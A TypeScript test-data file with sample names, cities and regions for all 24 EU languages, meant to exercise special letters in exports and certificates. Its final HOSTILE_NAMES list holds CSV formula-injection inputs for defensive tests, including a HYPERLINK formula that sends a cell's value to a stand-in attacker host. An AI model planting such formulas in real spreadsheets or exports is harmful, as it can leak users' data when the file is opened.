/**
 * Realistic names and places for test data: one entry per official EU language, so that every
 * special letter of the 24 languages (Latin diacritics, Greek, Bulgarian Cyrillic) shows up in
 * exports, certificates and the staff table.
 */
export interface SamplePeople {
  language: string
  country: string
  firstNames: readonly string[]
  lastNames: readonly string[]
  cities: readonly string[]
  regions: readonly string[]
}

export const SAMPLE_PEOPLE: readonly SamplePeople[] = [
  {
    language: 'bg',
    country: 'BG',
    firstNames: ['Мария', 'Йордан', 'Цветелина', 'Щилиян', 'Юлия'],
    lastNames: ['Мария-Йорданова', 'Петков', 'Гълъбова', 'Шишманов', 'Щерева'],
    cities: ['София', 'Пловдив', 'Варна'],
    regions: ['Област Бургас', 'Област Смолян'],
  },
  {
    language: 'hr',
    country: 'HR',
    firstNames: ['Đurđa', 'Ivan', 'Ljiljana', 'Šime', 'Žarko'],
    lastNames: ['Čačić', 'Horvat', 'Kovačević', 'Đurić', 'Šarić'],
    cities: ['Zagreb', 'Split', 'Čakovec'],
    regions: ['Splitsko-dalmatinska županija', 'Međimurska županija'],
  },
  {
    language: 'cs',
    country: 'CZ',
    firstNames: ['Jiří', 'Kateřina', 'Přemysl', 'Šárka', 'Tomáš'],
    lastNames: ['Dvořák', 'Novotná', 'Černý', 'Růžičková', 'Ťoupalík'],
    cities: ['Praha', 'Brno', 'Ústí nad Labem'],
    regions: ['Jihomoravský kraj', 'Kraj Vysočina'],
  },
  {
    language: 'da',
    country: 'DK',
    firstNames: ['Søren', 'Åse', 'Mette', 'Bjørn', 'Jens'],
    lastNames: ['Kierkegaard', 'Ågesen', 'Østergaard', 'Nielsen', 'Frølund', 'Kræmer'],
    cities: ['København', 'Århus', 'Ærøskøbing'],
    regions: ['Region Syddanmark', 'Region Nordjylland'],
  },
  {
    language: 'nl',
    country: 'NL',
    firstNames: ['Anneke', 'Joëlle', 'IJsbrand', 'Daan', 'Noëmi'],
    lastNames: ['van der Berg', "'t Hooft", 'de Vries', 'IJzerman', 'Janssen'],
    cities: ['Amsterdam', 'Utrecht', "'s-Hertogenbosch"],
    regions: ['Provincie Gelderland', 'Provincie Zeeland'],
  },
  {
    language: 'en',
    country: 'IE',
    firstNames: ['Siobhán', 'Seán', 'Mary', 'Patrick', 'Aoife'],
    lastNames: ["O'Brien", 'Murphy', "D'Arcy", 'Smith-Jones', 'Walsh'],
    cities: ['Dublin', 'Cork', 'Galway'],
    regions: ['Southern Region', 'Eastern and Midland Region'],
  },
  {
    language: 'et',
    country: 'EE',
    firstNames: ['Jüri', 'Õnne', 'Mäido', 'Tõnis', 'Külli'],
    lastNames: ['Tamm', 'Sõber', 'Mägi', 'Šmidt', 'Žukovski'],
    cities: ['Tallinn', 'Tartu', 'Pärnu'],
    regions: ['Harju maakond', 'Võru maakond'],
  },
  {
    language: 'fi',
    country: 'FI',
    firstNames: ['Jaakko', 'Päivi', 'Väinö', 'Sanna', 'Tuomas'],
    lastNames: ['Mäkinen', 'Häkkinen', 'Virtanen', 'Kärkkäinen', 'Öhman'],
    cities: ['Helsinki', 'Jyväskylä', 'Hämeenlinna'],
    regions: ['Pohjois-Pohjanmaa', 'Etelä-Savo'],
  },
  {
    language: 'fr',
    country: 'FR',
    firstNames: ['Zoë', 'François', 'Hélène', 'Anaïs', 'Jérôme'],
    lastNames: ['Lefèvre', 'Dubœuf', 'Lenôtre', 'Benoît-Crémieux', 'Mérimée'],
    cities: ['Lyon', 'Besançon', 'Orléans'],
    regions: ['Région Bretagne', 'Auvergne-Rhône-Alpes'],
  },
  {
    language: 'de',
    country: 'DE',
    firstNames: ['Jürgen', 'Ännchen', 'Björn', 'Grete', 'Lukas'],
    lastNames: ['Müller', 'Weiß', 'Schröder', 'Großmann', 'Fuß'],
    cities: ['München', 'Köln', 'Düsseldorf'],
    regions: ['Freistaat Thüringen', 'Baden-Württemberg'],
  },
  {
    language: 'el',
    country: 'GR',
    firstNames: ['Ξανθή', 'Γιώργος', 'Ελένη', 'Δημήτρης', 'Φωτεινή', 'Αλεξάνδρα'],
    lastNames: ['Παπαδοπούλου', 'Οικονόμου', 'Χατζηγεωργίου', 'Ζαφειρίου', 'Ψαρρού'],
    cities: ['Αθήνα', 'Θεσσαλονίκη', 'Ηράκλειο'],
    regions: ['Περιφέρεια Κρήτης', 'Περιφέρεια Ηπείρου'],
  },
  {
    language: 'hu',
    country: 'HU',
    firstNames: ['Ödön', 'Ünige', 'Zsófia', 'Gyöngyi', 'Ádám'],
    lastNames: ['Kovács', 'Szűcs', 'Győri', 'Bőke', 'Nagy'],
    cities: ['Budapest', 'Győr', 'Pécs'],
    regions: ['Győr-Moson-Sopron vármegye', 'Hajdú-Bihar vármegye'],
  },
  {
    language: 'ga',
    country: 'IE',
    firstNames: ['Síle', 'Pádraig', 'Éabha', 'Ciarán', 'Órla'],
    lastNames: ['Ó Súilleabháin', 'Ní Bhriain', 'Mac Cárthaigh', 'Ó Dónaill', 'de Búrca'],
    cities: ['Gaillimh', 'Corcaigh', 'Baile Átha Cliath'],
    regions: ['Réigiún an Deiscirt', 'Tionól Réigiúnach an Iarthuaiscirt'],
  },
  {
    language: 'it',
    country: 'IT',
    firstNames: ['Niccolò', 'Chiara', 'Mattia', 'Lucia', 'Andrea'],
    lastNames: ['Rossi', "D'Angelo", 'Bianchi', 'Pirrò', 'Ferrara'],
    cities: ['Forlì', 'Cantù', 'Napoli'],
    regions: ['Regione Toscana', "Valle d'Aosta"],
  },
  {
    language: 'lv',
    country: 'LV',
    firstNames: ['Jānis', 'Ģirts', 'Ilze', 'Kārlis', 'Līga'],
    lastNames: ['Bērziņš', 'Ķēniņa', 'Ozoliņa', 'Kalniņš', 'Ļaudāns'],
    cities: ['Rīga', 'Liepāja', 'Jēkabpils'],
    regions: ['Kurzemes plānošanas reģions', 'Latgales plānošanas reģions'],
  },
  {
    language: 'lt',
    country: 'LT',
    firstNames: ['Žygimantas', 'Gintarė', 'Rūta', 'Jonas', 'Vytautas'],
    lastNames: ['Kazlauskaitė', 'Jankūnas', 'Šimkus', 'Žemaitytė', 'Petrauskas'],
    cities: ['Vilnius', 'Kaunas', 'Šiauliai'],
    regions: ['Klaipėdos apskritis', 'Utenos apskritis'],
  },
  {
    language: 'mt',
    country: 'MT',
    firstNames: ['Ġorġ', 'Marija', 'Ċensu', 'Ħelena', 'Żaren'],
    lastNames: ['Borġ', 'Camilleri', 'Żammit', 'Ħili', 'Vella'],
    cities: ['Valletta', 'Ħaż-Żebbuġ', 'Għajnsielem'],
    regions: ['Reġjun Għawdex', 'Reġjun Xlokk'],
  },
  {
    language: 'pl',
    country: 'PL',
    firstNames: ['Łukasz', 'Małgorzata', 'Zdzisław', 'Jędrzej', 'Józef'],
    lastNames: ['Wiśniewska', 'Żółkiewski', 'Łęcki', 'Źrebiec', 'Gąsiorowska'],
    cities: ['Łódź', 'Kraków', 'Gdańsk'],
    regions: ['Województwo Małopolskie', 'Województwo Świętokrzyskie'],
  },
  {
    language: 'pt',
    country: 'PT',
    firstNames: ['João', 'Conceição', 'Inês', 'Gonçalo', 'Luís'],
    lastNames: ['Magalhães', 'Simões', 'Gonçalves', 'Assunção', 'Araújo'],
    cities: ['Lisboa', 'Évora', 'Guimarães'],
    regions: ['Região Autónoma dos Açores', 'Região do Alentejo'],
  },
  {
    language: 'ro',
    country: 'RO',
    firstNames: ['Ștefan', 'Ionuț', 'Ioana', 'Mădălina', 'Răzvan'],
    lastNames: ['Țăranu', 'Ștefănescu', 'Popescu', 'Bălănescu', 'Dumitrașcu'],
    cities: ['București', 'Timișoara', 'Iași'],
    regions: ['Regiunea Nord-Est', 'Județul Brașov'],
  },
  {
    language: 'sk',
    country: 'SK',
    firstNames: ['Ľubomír', 'Ďurko', 'Ráchel', 'Ondrej', 'Žofia'],
    lastNames: ['Kováčová', 'Ďuriš', 'Hlôžková', 'Mäsiar', 'Čarnogurský', 'Kŕdeľová'],
    cities: ['Bratislava', 'Košice', 'Žilina'],
    regions: ['Prešovský kraj', 'Banskobystrický kraj'],
  },
  {
    language: 'sl',
    country: 'SI',
    firstNames: ['Špela', 'Žiga', 'Črtomir', 'Nina', 'Matej'],
    lastNames: ['Novak', 'Kovačič', 'Žagar', 'Štrukelj', 'Čuk'],
    cities: ['Ljubljana', 'Maribor', 'Škofja Loka'],
    regions: ['Savinjska regija', 'Goriška regija'],
  },
  {
    language: 'es',
    country: 'ES',
    firstNames: ['Begoña', 'Íñigo', 'José', 'Nuria', 'Agüeda'],
    lastNames: ['Muñoz', 'Peña', 'Ibáñez', 'Güell', 'Martínez'],
    cities: ['A Coruña', 'Cádiz', 'Logroño'],
    regions: ['Castilla-La Mancha', 'Región de Murcia'],
  },
  {
    language: 'sv',
    country: 'SE',
    firstNames: ['Åsa', 'Örjan', 'Märta', 'Björn', 'Linnéa'],
    lastNames: ['Åström', 'Söderberg', 'Lindqvist', 'Öberg', 'Ängström'],
    cities: ['Göteborg', 'Malmö', 'Västerås'],
    regions: ['Västra Götalandsregionen', 'Region Skåne'],
  },
]

/** Other countries whose citizens sign at the booth too, with a language they may pick. */
export const EXTRA_COUNTRIES: readonly { country: string; language: string }[] = [
  { country: 'BE', language: 'fr' },
  { country: 'BE', language: 'nl' },
  { country: 'LU', language: 'fr' },
  { country: 'AT', language: 'de' },
  { country: 'CY', language: 'el' },
  { country: 'UA', language: 'en' },
  { country: 'NO', language: 'en' },
]

/**
 * Names that have broken CSV exports and certificate layouts elsewhere: use them in tests. No
 * control characters (line breaks included): the record schema refuses those (`safeText`).
 */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '=1+1;=2+2',
  'Comma, Semicolon; "Quote"',
  '"Quoted" ""twice""',
]
